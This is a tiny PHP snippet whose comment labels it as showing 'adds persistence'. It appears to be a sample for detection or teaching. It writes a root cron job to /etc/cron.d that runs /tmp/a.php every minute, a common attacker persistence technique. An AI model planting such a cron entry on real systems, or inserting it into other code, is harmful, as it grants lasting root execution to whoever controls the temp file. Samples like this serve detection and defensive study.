<?php // shows: adds persistence
file_put_contents("/etc/cron.d/sample", "* * * * * root php /tmp/a.php\n");
